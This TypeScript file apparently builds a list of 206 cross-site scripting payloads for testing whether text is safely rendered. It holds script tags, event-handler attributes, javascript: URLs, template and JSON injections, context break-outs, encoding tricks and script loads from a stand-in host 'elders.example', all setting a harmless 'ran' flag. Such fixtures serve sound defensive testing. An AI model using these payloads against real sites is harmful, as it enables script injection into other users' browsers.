/** Texts that become code or elements wherever text is treated as markup; each would then set `ran`. */

const MARKUP = [
  '<script>ran=1</script>',
  '<script type=module>ran=1</script>',
  '<script src=//elders.example/ran.js></script>',
  '<script src="data:text/javascript,ran=1"></script>',
  '<img src=x onerror=ran=1>',
  '<img src="x:y" onerror="ran=1" alt="a">',
  '<img/src/onerror=ran=1>',
  '<svg onload=ran=1>',
  '<svg><script>ran=1</script></svg>',
  '<svg><animate onbegin=ran=1 attributeName=x dur=1s></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=ran=1>#x"></svg>',
  '<math><mtext><img src=x onerror=ran=1></mtext></math>',
  '<iframe src="javascript:parent.ran=1"></iframe>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<object data="javascript:ran=1"></object>',
  '<embed src="javascript:ran=1">',
  '<video src=x onerror=ran=1></video>',
  '<audio src onloadstart=ran=1></audio>',
  '<body onload=ran=1>',
  '<input autofocus onfocus=ran=1>',
  '<details open ontoggle=ran=1><summary>x</summary></details>',
  '<marquee onstart=ran=1>x</marquee>',
  '<a href="javascript:ran=1" autofocus onfocus=ran=1>lees</a>',
  '<form action="javascript:ran=1"><button>lees</button></form>',
  '<button popovertarget=x formaction="javascript:ran=1">lees</button>',
  '<style>@import "//elders.example/a.css";*{animation:a}</style><b onanimationstart=ran=1>',
  '<link rel=stylesheet href=//elders.example/a.css>',
  '<meta http-equiv=refresh content="0;url=javascript:ran=1">',
  '<base href="//elders.example/">',
  '<template shadowrootmode=open><img src=x onerror=ran=1></template>',
  '<x-y tabindex=1 autofocus onfocus=ran=1></x-y>',
];

/** What a payload first breaks out of, or hides behind. */
const AROUND: ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `">${markup}`,
  (markup) => `'>${markup.toUpperCase().replaceAll('RAN=1', 'ran=1')}`,
  (markup) => `--></title></style></textarea></script>${markup}`,
  (markup) => markup.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (markup) => markup.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
];

const OTHERS = [
  'javascript:ran=1',
  'data:text/html,<script>ran=1</script>',
  '" onmouseover=ran=1 onfocus=ran=1 autofocus x="',
  "' onpointerenter=ran=1 x='",
  '` onerror=ran=1 `',
  '#{ran=1}',
  "{{constructor.constructor('ran=1')()}}",
  '<%= ran=1 %>',
  "');ran=1;//",
  '"};ran=1;{"a":"',
  '{"__html":"<img src=x onerror=ran=1>"}',
  '{"type":"img","props":{"onerror":"ran=1"}}',
  '<![CDATA[<img src=x onerror=ran=1>]]>',
  '<?xml-stylesheet href="javascript:ran=1"?>',
  '<!--<img src="--><img src=x onerror=ran=1>',
  '\u202E<img src=x onerror=ran=1>\u202C',
  '\uFF1Cimg src=x onerror=ran=1\uFF1E',
  '<img src=x\u2028onerror=ran=1>',
  '%3Cimg%20src%3Dx%20onerror%3Dran%3D1%3E',
  '</p></article></div><img src=x onerror=ran=1>',
];

/** 206 of them. */
export const PAYLOADS: readonly string[] = [...AROUND.flatMap((around) => MARKUP.map(around)), ...OTHERS];
